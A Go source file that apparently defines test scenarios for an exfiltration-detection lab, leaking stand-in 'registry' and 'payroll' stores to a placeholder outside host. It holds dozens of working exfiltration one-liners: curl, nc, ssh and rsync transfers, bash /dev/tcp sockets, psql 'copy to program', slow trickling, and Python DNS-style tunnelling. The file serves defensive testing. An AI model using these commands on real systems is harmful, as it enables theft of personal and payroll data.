package main

import "cityward/collectors/inventory"

const (
	farSSH   = "127.0.0.1:22"
	farRsync = "127.0.0.1:873"

	direct, descendant, pipeline, derived = inventory.HowDirect, inventory.HowDescendant, inventory.HowPipeline, inventory.HowDerived
)

// leaks are the ways out. A script has the environment of [newLab]: $D and $P are
// files of the two stores, $OUT is beyond the city, $U is its web server, $W a
// directory of the scenario's own.
func leaks() []*scenario {
	all := append(uploads(), pipelines()...)
	all = append(all, shells()...)
	all = append(all, databases()...)
	all = append(all, languages()...)
	all = append(all, sessions()...)
	all = append(all, copies()...)
	return append(all, channels()...)
}

// uploads are programs made for it.
func uploads() []*scenario {
	return []*scenario{
		{name: "curl uploads", store: "registry", carrier: "curl", how: direct, script: `curl -sST "$D" "$U"`},
		{name: "curl sends a form", store: "payroll", carrier: "curl", how: direct, script: `curl -sS -F "file=@$P" "$U"`},
		{name: "curl over TLS", store: "registry", carrier: "curl", how: direct, script: `curl -sSkT "$D" "https://$OUT:$PORT/"`},
		{name: "curl over IPv6", store: "registry", carrier: "curl", how: direct, six: true, script: `curl -sST "$D" "http://[$OUT6]:$PORT/"`},
		{name: "wget posts", store: "payroll", carrier: "wget", how: direct, script: `wget -qO- --post-file="$P" "$U"`},
		{name: "nc sends its input", store: "registry", carrier: "nc", how: direct, script: `nc -N "$OUT" "$PORT" <"$D"`},
		{
			name: "scp", store: "registry", carrier: "ssh", how: pipeline, loose: true, forward: farSSH,
			script: `scp -q -F "$SSHC" -P "$PORT" "$D" "$OUT:$FAR/$PORT"`,
		},
		{
			name: "sftp", store: "payroll", carrier: "ssh", how: pipeline, loose: true, forward: farSSH,
			script: `echo "put $P $FAR/$PORT" | sftp -q -F "$SSHC" -P "$PORT" -b - "$OUT"`,
		},
		{
			name: "rsync over ssh", store: "registry", carrier: "ssh", how: pipeline, loose: true, forward: farSSH,
			script: `rsync -e "ssh -F $SSHC -p $PORT" "$D" "$OUT:$FAR/$PORT"`,
		},
		{
			name: "rsync to its own server", store: "payroll", carrier: "rsync", how: direct, loose: true, forward: farRsync,
			script: `rsync "$P" "rsync://$OUT:$PORT/far/$PORT"`,
		},
		{
			name: "ssh sends its input", store: "registry", carrier: "ssh", how: direct, forward: farSSH,
			script: `ssh -F "$SSHC" -p "$PORT" "$OUT" "cat >$FAR/$PORT" <"$D"`,
		},
	}
}

func pipelines() []*scenario {
	return []*scenario{
		{name: "cat | nc", store: "registry", carrier: "nc", how: pipeline, script: `cat "$D" | nc -N "$OUT" "$PORT"`},
		{name: "gzip | curl", store: "registry", carrier: "curl", how: pipeline, least: 15000, script: `gzip -c "$D" | curl -sST - "$U"`},
		{name: "tar | nc", store: "payroll", carrier: "nc", how: pipeline, script: `tar -C "${P%/*}" -c . | nc -N "$OUT" "$PORT"`},
		{
			name: "tar | gzip | ssh", store: "registry", carrier: "ssh", how: pipeline, least: 15000, loose: true, forward: farSSH,
			script: `tar -C "$R" -c citizens.csv | gzip | ssh -F "$SSHC" -p "$PORT" "$OUT" "cat >$FAR/$PORT"`,
		},
		{
			name: "openssl | base64 | tee | nc", store: "payroll", carrier: "nc", how: pipeline,
			script: `openssl enc -aes-256-cbc -pbkdf2 -pass pass:x <"$P" | base64 | tee /dev/null | nc -N "$OUT" "$PORT"`,
		},
		{
			name: "FIFO", store: "registry", carrier: "nc", how: pipeline,
			script: `mkfifo "$W/f"; cat "$D" >"$W/f" & nc -N "$OUT" "$PORT" <"$W/f"; wait`,
		},
		{
			name: "terminal", store: "payroll", carrier: "nc", how: pipeline,
			script: `script -qec "cat '$P'" /dev/null </dev/null | nc -N "$OUT" "$PORT"`,
		},
		{
			name: "datagrams of nc", store: "registry", carrier: "nc", how: pipeline,
			script: `cat "$D" | nc -u -q 1 -w 2 "$OUT" "$PORT"`,
		},
	}
}

func shells() []*scenario {
	return []*scenario{
		{
			name: "bash sends by itself", store: "registry", carrier: "bash", how: direct,
			script: `mapfile -t all <"$D"; exec 3<>"/dev/tcp/$OUT/$PORT"; printf '%s\n' "${all[@]}" >&3`,
		},
		{
			name: "a shell that has read, then curl", store: "payroll", carrier: "curl", how: descendant,
			script: `mapfile -t all <"$P"; printf '%s\n' "${all[@]}" | curl -sST - "$U"`,
		},
		{
			name: "arguments", store: "registry", carrier: "curl", how: descendant, least: 2000,
			script: `text=$(<"$D"); curl -sS --data-raw "${text:0:2000}" "$U"`,
		},
		{
			name: "environment", store: "registry", carrier: "curl", how: descendant, least: 2000,
			script: `text=$(cat "$D"); export TEXT=${text:0:2000}; bash -c 'curl -sS --data-raw "$TEXT" "$U"'`,
		},
		{
			name: "one datagram", store: "registry", carrier: "cat", how: direct,
			script: `cat "$D" >"/dev/udp/$OUT/$PORT"`,
		},
		{
			name: "low and slow", store: "payroll", carrier: "bash", how: direct, least: 30,
			script: `exec 3<"$P" 4<>"/dev/tcp/$OUT/$PORT"; for _ in {1..30}; do read -rn1 -u3 one; printf %s "$one" >&4; sleep 0.2; done`,
		},
		{
			name: "another's descriptor below /proc", store: "registry", carrier: "curl", how: direct,
			script: `sleep 20 <"$D" & sleep 0.3; curl -sST "/proc/$!/fd/0" "$U"; kill $!`,
		},
	}
}

func databases() []*scenario {
	return []*scenario{
		{
			name: "pg_dump | gzip | ssh", store: "registry", carrier: "ssh", how: pipeline, least: 15000, loose: true, forward: farSSH,
			script: `"$PGDUMP" | gzip | ssh -F "$SSHC" -p "$PORT" "$OUT" "cat >$FAR/$PORT"`,
		},
		{
			name: "pg_dump to a file, then curl", store: "registry", carrier: "curl", how: derived, least: 30000,
			script: `"$PGDUMP" -f "$W/dump"; curl -sST "$W/dump" "$U"`,
		},
		{
			name: "psql | curl", store: "registry", carrier: "curl", how: pipeline, least: 30000,
			script: `"$PSQL" -qc 'copy citizens to stdout' | curl -sST - "$U"`,
		},
		{
			name: "psql over TCP | nc", store: "registry", carrier: "nc", how: pipeline, least: 30000,
			script: `"$PSQL" -h 127.0.0.1 -qc 'copy citizens to stdout' | nc -N "$OUT" "$PORT"`,
		},
		{
			name: "psql starts a program", store: "registry", carrier: "nc", how: descendant, least: 30000,
			script: `"$PSQL" -qc "\\copy citizens to program 'nc -N $OUT $PORT'"`,
		},
		{
			name: "the database starts a program", store: "registry", carrier: "nc", how: descendant, least: 30000,
			script: `"$PSQL" -qc "copy citizens to program 'nc -N $OUT $PORT'"`,
		},
		{
			name: "an outside client of the database", store: "registry", carrier: "postgres", how: direct, least: 30000, inbound: true,
			script: `nsenter --net="$BEYOND" socat "TCP-LISTEN:$LOCAL,bind=127.0.0.1" "TCP:$SELF:5432,bind=$OUT" & sleep 0.5
				nsenter --net="$BEYOND" "$PSQL" -h 127.0.0.1 -p "$LOCAL" -qc 'copy citizens to stdout' | wc -c; wait`,
		},
		{
			name: "a web application without a transfer", store: "registry", carrier: "socat", how: pipeline, least: 30000, inbound: true, loose: true,
			script: `socat "TCP-LISTEN:$PORT,bind=$SELF" "SYSTEM:'$PSQL -qc \"copy citizens to stdout\"'" & sleep 0.5
				nsenter --net="$BEYOND" socat -u "TCP:$SELF:$PORT,bind=$OUT" - | wc -c; wait`,
		},
	}
}

func languages() []*scenario {
	const python = `import os,socket,sys,base64,subprocess,time
data=open(sys.argv[1],"rb")
at=(os.environ["OUT"],int(os.environ["PORT"]))
`
	return []*scenario{
		{name: "Go", store: "registry", carrier: "gocarry", how: direct, script: `"$GOCARRY" "$D" "$OUT:$PORT"`},
		{name: "C, mmap", store: "payroll", carrier: "carry", how: direct, script: `"$CARRY" mmap "$P" "$OUT" "$PORT"`},
		{name: "C, sendfile", store: "registry", carrier: "carry", how: direct, script: `"$CARRY" sendfile "$D" "$OUT" "$PORT"`},
		{name: "C, splice", store: "payroll", carrier: "carry", how: direct, script: `"$CARRY" splice "$P" "$OUT" "$PORT"`},
		{name: "C, io_uring", store: "registry", carrier: "carry", how: direct, script: `"$CARRY" uring "$D" "$OUT" "$PORT"`},
		{name: "C, over in 2 ms", store: "registry", carrier: "carry", how: direct, script: `"$CARRY" send "$D" "$OUT" "$PORT"`},
		{
			name: "C, a descriptor passed over a Unix socket", store: "registry", carrier: "carry", how: direct,
			script: `"$CARRY" take "$W/s" "$OUT" "$PORT" & "$CARRY" pass "$D" "$W/s"; wait $!`,
		},
		{
			name: "Python", store: "payroll", carrier: "python3", how: direct,
			script: `python3 -c '` + python + `socket.create_connection(at).sendall(data.read())' "$P"`,
		},
		{
			name: "Python, sendfile", store: "registry", carrier: "python3", how: direct,
			script: `python3 -c '` + python + `socket.create_connection(at).sendfile(data)' "$D"`,
		},
		{
			name: "a child of Python", store: "registry", carrier: "python3", how: descendant,
			script: `python3 -c '` + python + `text=data.read(); data.close()
if os.fork()==0: socket.create_connection(at).sendall(text)
else: os.wait()' "$D"`,
		},
		{
			name: "Python with what a child printed", store: "payroll", carrier: "python3", how: pipeline,
			script: `python3 -c '` + python + `socket.create_connection(at).sendall(subprocess.check_output(["/bin/cat",os.environ["P"]]))' /dev/null`,
		},
		{
			name: "DNS-shaped datagrams", store: "registry", carrier: "python3", how: direct, least: 8000,
			script: `python3 -c '` + python + `s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)
for i in range(300):
  name=base64.b32encode(data.read(30)).rstrip(b"=").lower()
  s.sendto(i.to_bytes(2,"big")+b"\1\0\0\1\0\0\0\0\0\0"+bytes([len(name)])+name+b"\7example\0\0\1\0\1",at)
  time.sleep(0.002)' "$D"`,
		},
		{
			name: "Perl", store: "payroll", carrier: "perl", how: direct,
			script: `perl -MIO::Socket::INET -e 'open F,"<",$ARGV[0]; $s=IO::Socket::INET->new("$ENV{OUT}:$ENV{PORT}"); print $s $_ while <F>' "$P"`,
		},
	}
}
